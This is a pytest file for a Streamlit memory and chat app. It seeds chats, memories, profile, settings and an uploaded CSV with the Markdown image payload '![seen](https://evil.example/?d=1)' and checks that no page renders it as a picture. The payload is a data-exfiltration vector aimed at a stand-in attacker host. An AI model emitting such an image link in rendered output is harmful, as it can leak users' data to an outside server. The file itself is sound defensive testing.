"""Words that would be a picture as Markdown, wherever a page draws them: in a chat, a memory, a name, an error."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import pytest
from streamlit.testing.v1 import AppTest

import services
from chat.preferences import Preferences
from tests.pages.conftest import OpenApp, insert_memory, press, user_of

PICTURE = "![seen](https://evil.example/?d=1)"
# Streamlit draws these fields as they are; all others it may read as Markdown.
PLAIN = {
    "id",
    "value",
    "default",
    "options",
    "placeholder",
    "raw_value",
    "url",
    "data",
    "query_string",
    "element_id",
    "json",
    "spec",
}
PAGES = ["chat", "memories", "health", "settings", "account"]
TABS = [("memories", tab) for tab in ("Memories", "Profile", "Time line", "Graph", "Files")]
TABS += [("health", tab) for tab in ("Overview", "Needs attention", "Recall checks", "Not stored")]


@pytest.fixture
def app(home: services.Services, open_app: OpenApp) -> AppTest:
    """Somebody whose chats, memories, profile and settings are all hostile words."""
    app = open_app()
    user_id = user_of(app)
    quoted: dict[str, Any] = {"quote": PICTURE, "entities": [[PICTURE, "Ana"]], "relations": [["me", "knows", PICTURE]]}
    memory = insert_memory(home, app, f"Likes {PICTURE}", days=300, **quoted)
    insert_memory(home, app, f"likes {PICTURE} !", days=200)
    home.memory.checks.pin(memory, f"What of {PICTURE}?", user_id=user_id)
    home.memory.profile.add(user_id, f"Line {PICTURE}")
    home.preferences.set(user_id, Preferences(instructions=PICTURE, model=PICTURE))
    asked = home.conversations.say(user_id, None, f"My name is {PICTURE}")
    receipt: dict[str, Any] = {
        "memories": [{"id": memory, "text": PICTURE, "at": "2026-01-01T00:00:00+00:00", "by": PICTURE}]
    }
    receipt |= {"not_recalled": PICTURE, "not_offered": PICTURE, "model": PICTURE}
    home.conversations.reply(asked, f"You said \\{PICTURE}", "failed", receipt)
    home.chats.rename(user_id, asked.conversation_id, f"Chat {PICTURE}")
    app.session_state["open_chat"] = asked.conversation_id
    return app


def _texts(proto: Any) -> Iterator[str]:
    for field, value in proto.ListFields():
        if field.name in PLAIN:
            continue
        for each in value if field.is_repeated else [value]:
            if hasattr(each, "ListFields"):
                yield from _texts(each)
            elif isinstance(each, str):
                yield each


def _pictures(app: AppTest) -> list[str]:
    """What is drawn as Markdown with a picture in it; a bracket after an odd number of backslashes is text."""
    assert not app.exception
    drawn: list[Any] = [each.proto for part in (app.main, app.sidebar) for each in part if each.proto is not None]
    return [each for proto in drawn for each in _texts(proto) if re.search(r"!(?:\\\\)*\[", each)]


@pytest.mark.parametrize("page", PAGES)
def test_no_page_draws_a_picture_of_anybodys_words(app: AppTest, page: str) -> None:
    app.run() if page == "chat" else app.switch_page(f"pages/{page}.py").run()
    assert _pictures(app) == []


@pytest.mark.parametrize(("page", "tab"), TABS, ids=[tab for _, tab in TABS])
def test_no_tab_draws_a_picture_of_anybodys_words(app: AppTest, page: str, tab: str) -> None:
    app.session_state[f"{page}-tab"] = tab
    assert _pictures(app.switch_page(f"pages/{page}.py").run()) == []


@pytest.mark.parametrize("cell", [PICTURE, f"\\{PICTURE}"])
def test_an_error_draws_a_files_cell_as_text(app: AppTest, cell: str) -> None:
    app.session_state["memories-tab"] = "Files"
    app.switch_page("pages/memories.py").run()
    table = f'memory,kind\nLikes tea,"{cell}"\n'
    app.file_uploader[0].set_value(("table.csv", table.encode(), "text/csv")).run()
    press(app, "Import")
    assert ["evil" in each.value for each in app.error] == [True]
    assert _pictures(app) == []
